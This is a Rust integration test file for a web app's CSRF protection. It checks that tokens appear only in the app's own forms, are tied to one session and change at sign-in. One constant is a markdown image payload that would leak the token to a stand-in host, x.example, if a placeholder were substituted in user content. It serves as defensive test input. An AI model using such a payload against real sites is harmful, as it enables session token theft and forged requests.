//! The CSRF token goes only where quire's own forms put it, belongs to one session
//! and changes at sign-in.

use reqwest::StatusCode;

use crate::helpers::{PASSWORD, anonymous, csrf_of, sign_in, spawn_app, textareas};

const BAIT: &str = "![p](https://x.example/leak?t=__QUIRE_CSRF__)\n\nsay __QUIRE_CSRF__";

#[tokio::test]
async fn a_document_naming_the_token_placeholder_never_shows_the_readers_token() {
    let app = spawn_app().await;
    let id = app.create_document("Bait __QUIRE_CSRF__", BAIT).await;
    app.post_form(&format!("/d/{id}/share"), &[("action", "link-on")])
        .await;

    let (_, page) = app.get_text(&format!("/d/{id}")).await;
    assert!(
        page.contains(&app.csrf),
        "the page's own forms carry the token"
    );
    assert!(
        page.contains("https://x.example/leak?t=__QUIRE_CSRF__"),
        "{page}"
    );
    assert_eq!(
        page.matches(&app.csrf).count(),
        csrf_fields(&page),
        "{page}"
    );

    let (_, edit) = app.get_text(&format!("/d/{id}/edit")).await;
    assert_eq!(textareas(&edit), vec![BAIT.to_string()]);
    assert!(edit.contains("value=\"Bait __QUIRE_CSRF__\""), "{edit}");
    assert_eq!(edit.matches(&app.csrf).count(), csrf_fields(&edit));

    let partial = app.get_htmx(&format!("/d/{id}/edit")).await;
    let partial = partial.text().await.expect("body");
    assert!(!partial.contains(&format!("leak?t={}", app.csrf)));
    assert_eq!(textareas(&partial), vec![BAIT.to_string()]);
}

/// Places quire's templates put the token: form fields and htmx's header.
fn csrf_fields(html: &str) -> usize {
    html.matches(r#"name="csrf" value=""#).count() + html.matches("X-CSRF-Token\": \"").count()
}

#[tokio::test]
async fn signing_in_gives_a_new_token_and_the_old_one_no_longer_works() {
    let app = spawn_app().await;
    let id = app.create_document("Keep", "me").await;
    let (client, before) = anonymous(&app.address).await;
    let res = client
        .post(format!("{}/login", app.address))
        .form(&[
            ("username", "alice"),
            ("password", PASSWORD),
            ("csrf", &before),
        ])
        .send()
        .await
        .expect("POST /login");
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    let home = client
        .get(format!("{}/", app.address))
        .send()
        .await
        .expect("GET /")
        .text()
        .await
        .expect("body");
    let after = csrf_of(&home);
    assert_ne!(after, before, "the token changes at sign-in");

    let stale = client
        .post(format!("{}/d/{id}/delete", app.address))
        .form(&[("csrf", &before)])
        .send()
        .await
        .expect("POST");
    assert_eq!(stale.status(), StatusCode::FORBIDDEN);
    let fresh = client
        .post(format!("{}/d/{id}/delete", app.address))
        .form(&[("csrf", &after)])
        .send()
        .await
        .expect("POST");
    assert_eq!(fresh.status(), StatusCode::SEE_OTHER);
}

#[tokio::test]
async fn one_sessions_token_does_not_work_for_another_session() {
    let app = spawn_app().await;
    let id = app.create_document("Keep", "me").await;
    let (other, other_csrf) = sign_in(&app.address, "alice", PASSWORD).await;
    assert_ne!(other_csrf, app.csrf);

    let res = other
        .post(format!("{}/d/{id}/delete", app.address))
        .header("X-CSRF-Token", &app.csrf)
        .send()
        .await
        .expect("POST");
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    assert_eq!(app.get(&format!("/d/{id}")).await.status(), StatusCode::OK);
}
